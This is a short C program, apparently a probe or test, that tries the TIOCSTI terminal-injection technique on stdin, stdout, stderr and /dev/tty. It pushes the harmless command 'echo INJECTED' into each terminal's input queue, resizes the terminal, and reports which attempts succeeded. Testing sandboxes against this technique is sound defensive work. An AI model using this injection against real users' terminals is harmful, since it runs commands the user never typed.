/* The terminal-injection attack: push a command into the input queue of
 * whatever terminal we can reach (fds 0-2 and /dev/tty) with TIOCSTI, and
 * resize it with TIOCSWINSZ. Prints what worked. */
#include <fcntl.h>
#include <stdio.h>
#include <string.h>
#include <sys/ioctl.h>
#include <unistd.h>

static void attack(int fd, const char *name) {
    const char *cmd = "echo INJECTED\n";
    int pushed = 0;
    for (const char *c = cmd; *c; c++)
        if (ioctl(fd, TIOCSTI, c) == 0) pushed++;
    struct winsize ws = {.ws_row = 11, .ws_col = 77};
    int resized = ioctl(fd, TIOCSWINSZ, &ws) == 0;
    printf("%s: pushed %d bytes, resized %s\n", name, pushed, resized ? "yes" : "no");
}

int main(void) {
    for (int fd = 0; fd < 3; fd++) {
        char name[8];
        snprintf(name, sizeof name, "fd%d", fd);
        attack(fd, name);
    }
    int tty = open("/dev/tty", O_RDWR);
    if (tty >= 0) attack(tty, "/dev/tty");
    else perror("open /dev/tty");
    return 0;
}
